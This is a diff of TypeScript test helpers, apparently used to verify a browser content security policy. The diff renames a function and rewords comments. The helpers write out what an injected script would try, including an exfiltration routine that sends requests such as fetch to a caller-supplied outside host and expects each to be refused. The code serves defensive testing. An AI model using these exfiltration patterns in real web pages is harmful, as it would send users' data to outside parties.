@@ -1,8 +1,11 @@
-/** What a script that got into a page would try. Each function is sent to the page: it may use nothing from outside itself. */
+/**
+ * What a script injected into a page would try. Each function is serialised into the page: it may use nothing from its
+ * module.
+ */
 
-/** In a page: what each of these does under the policy. */
-export function misbehave(): Record<string, string> {
-  // oxlint-disable-next-line unicorn/consistent-function-scoping -- the page is given this function's text alone
+/** In a page: the effect of each of these under the content security policy. */
+export function attemptInjections(): Record<string, string> {
+  // oxlint-disable-next-line unicorn/consistent-function-scoping -- only this function's source is sent to the page
   const attempt = (action: () => unknown): string => {
     try {
       action();
@@ -39,7 +42,7 @@ export function misbehave(): Record<string, string> {
   };
 }
 
-/** In a page: every way out that a browser knows. Answers how many were tried. */
+/** In a page: every means of exfiltration in a browser. Returns how many were tried. */
 export async function sendElsewhere(elsewhere: string): Promise<number> {
   const ways: (() => unknown)[] = [
     () => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }),
@@ -72,7 +75,7 @@ export async function sendElsewhere(elsewhere: string): Promise<number> {
     try {
       await way();
     } catch {
-      // Refused, as it should be.
+      // Refused, as expected.
     }
   }
   return ways.length;
